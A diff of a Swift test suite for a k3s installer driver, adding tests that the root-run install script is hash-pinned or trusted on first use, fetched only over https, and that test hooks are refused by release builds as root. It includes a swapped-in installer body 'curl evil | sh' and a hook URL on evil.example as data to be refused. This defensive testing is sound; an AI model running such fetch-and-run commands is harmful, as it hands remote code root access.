@@ -1,5 +1,6 @@
 import ClusterDrivers
 import Foundation
+import SecretGen
 import Testing
 
 let installerScript = "#!/bin/sh\n# k3s installer (test copy)\necho installing\n"
@@ -108,7 +109,8 @@ struct K3sFixture {
         let f = K3sFixture()
         let access = try await f.driver(K3sInstallSpec(name: "platform-cluster", disableTraefik: true)).ensureCluster()
         #expect(access.outcome == .created)
-        #expect(f.transport.requested == ["https://get.k3s.io"])
+        // The release's own install.sh, not get.k3s.io's latest.
+        #expect(f.transport.requested == ["https://raw.githubusercontent.com/k3s-io/k3s/v1.31.4%2Bk3s1/install.sh"])
         let install = try #require(f.runner.commands.first { $0.argv.first == "sh" })
         #expect(install.argv.count == 2 && install.argv[1].hasPrefix(f.scratch.tmp + "/aphex-k3s-") && install.argv[1].hasSuffix("/install.sh"))
         #expect(install.environment == ["INSTALL_K3S_VERSION": "v1.31.4+k3s1",
@@ -353,5 +355,111 @@ struct K3sFixture {
         let access = try await d.ensureCluster()
         #expect(access.outcome == .reused)
         #expect(f.world.installerRuns.isEmpty)
+    }
+}
+
+/// Item 7 of issue 14: the installer runs as root, so it is pinned or trusted on first use like
+/// the manifests, fetched over https only, and the test hooks are honoured only by test builds
+/// or a non-root user.
+@Suite struct K3sInstallerTrustTests {
+    static let version = "v1.31.4+k3s1"
+    var lockKey: String { "k3s-installer-\(Self.version)" }
+
+    @Test func firstUseIsRecordedAndALaterChangeIsRefused() async throws {
+        let f = K3sFixture()
+        _ = try await f.driver().ensureCluster()
+        let lockPath = f.scratch.home + "/.aphex/manifests.lock"
+        let entry = try #require(try ManifestLock.load(path: lockPath).entries[lockKey])
+        #expect(entry.sha256 == Digest.sha256Hex(Array(installerScript.utf8)))
+        #expect(entry.source == "first-use" && entry.component == "k3s-installer" && entry.version == Self.version)
+        #expect(entry.url == K3sInstallSpec.tagInstallerURL(version: Self.version))
+
+        // Reinstall (uninstalled meanwhile) with a different script: refused, nothing run.
+        _ = try await f.driver().delete()
+        let changed = FakeTransport { _ in HTTPResponse(status: 200, body: Array("#!/bin/sh\ncurl evil | sh\n".utf8)) }
+        let host = makeHost(f.scratch, runner: f.runner, clock: f.clock, uid: 0, transport: changed)
+        let runs = f.world.installerRuns.count
+        let e = await #expect(throws: AphexError.self) { _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster() }
+        #expect(e?.status == .failed)
+        #expect(e?.message.contains("recorded \(entry.sha256)") == true)
+        #expect(f.world.installerRuns.count == runs)
+    }
+
+    @Test func aPinIsEnforcedAndRecordedWithItsSource() async throws {
+        let f = K3sFixture()
+        let wrong = String(repeating: "0", count: 64)
+        let e = await #expect(throws: AphexError.self) {
+            _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", installerSHA256: wrong)).ensureCluster()
+        }
+        #expect(e?.status == .failed)
+        #expect(e?.message.contains("the components file pins \(wrong)") == true)
+        #expect(f.world.installerRuns.isEmpty)
+
+        let right = Digest.sha256Hex(Array(installerScript.utf8))
+        _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", installerSHA256: right.uppercased(), requirePinned: true)).ensureCluster()
+        #expect(f.world.installerRuns.count == 1)
+        #expect(try ManifestLock.load(path: f.scratch.home + "/.aphex/manifests.lock").entries[lockKey]?.source == "components file")
+    }
+
+    @Test func requirePinnedRefusesAnUnpinnedInstallerBeforeDownloading() async throws {
+        let f = K3sFixture()
+        let e = await #expect(throws: AphexError.self) {
+            _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", requirePinned: true)).ensureCluster()
+        }
+        #expect(e?.status == .usage)
+        #expect(e?.message.contains("--require-pinned") == true)
+        #expect(e?.message.contains("k3s-installer") == true)
+        #expect(f.transport.requested.isEmpty)
+        #expect(f.world.installerRuns.isEmpty)
+        #expect(f.driver(K3sInstallSpec(name: "platform-cluster", requirePinned: true)).planEnsure()
+                    .contains { $0.summary.contains("refuse it (--require-pinned: no pin)") })
+    }
+
+    @Test func plainHTTPIsRefused() async throws {
+        // From a components file: never.
+        let f = K3sFixture()
+        let e = await #expect(throws: AphexError.self) {
+            _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", installerURL: "http://mirror.example/install.sh")).ensureCluster()
+        }
+        #expect(e?.status == .usage)
+        #expect(e?.message.contains("only over https://") == true)
+        #expect(f.transport.requested.isEmpty)
+        // From the test hook: only loopback, only in a test build (the simulator's installer).
+        let g = K3sFixture(env: ["APHEX_K3S_INSTALL_URL": "http://mirror.example/install.sh"])
+        await #expect(throws: AphexError.self) { _ = try await g.driver().ensureCluster() }
+        #expect(g.transport.requested.isEmpty)
+        let h = K3sFixture(env: ["APHEX_K3S_INSTALL_URL": "http://127.0.0.1:9/install.sh"])
+        _ = try await h.driver().ensureCluster()
+        #expect(h.transport.requested == ["http://127.0.0.1:9/install.sh"])
+    }
+
+    @Test func componentsFileURLIsUsedWithItsVersion() async throws {
+        let f = K3sFixture()
+        _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", installerURL: "https://mirror.example/k3s/{version}/install.sh")).ensureCluster()
+        #expect(f.transport.requested == ["https://mirror.example/k3s/v1.31.4+k3s1/install.sh"])
+    }
+
+    @Test func aReleaseBuildRunningAsRootRefusesTheTestHooks() async throws {
+        for hook in [["APHEX_K3S_INSTALL_URL": "https://evil.example/install.sh"], [:]] {
+            let f = K3sFixture(env: hook)   // makeHost always sets APHEX_HOST_ROOT
+            var host = f.host
+            host.testBuild = false
+            let e = await #expect(throws: AphexError.self) { _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster() }
+            #expect(e?.status == .usage)
+            #expect(e?.message.contains("APHEX_HOST_ROOT") == true)
+            #expect(e?.message.contains("not honoured by a release build running as root") == true)
+            #expect(f.transport.requested.isEmpty && f.runner.argvs.isEmpty)
+            // What the driver would use: the real host and the tag's installer, never the hooks.
+            let d = K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster"))
+            #expect(d.paths.k3sKubeconfig == "/etc/rancher/k3s/k3s.yaml")
+            #expect(d.installerURL == K3sInstallSpec.tagInstallerURL(version: Self.version))
+        }
+        // Not root: the hooks can reach nothing that user could not, so they are honoured.
+        let f = K3sFixture(uid: 1000, env: ["APHEX_K3S_INSTALL_URL": "https://mirror.example/install.sh"])
+        var host = f.host
+        host.testBuild = false
+        let d = K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster"))
+        #expect(d.paths.root == f.scratch.hostRoot)
+        #expect(d.installerURL == "https://mirror.example/install.sh")
     }
 }
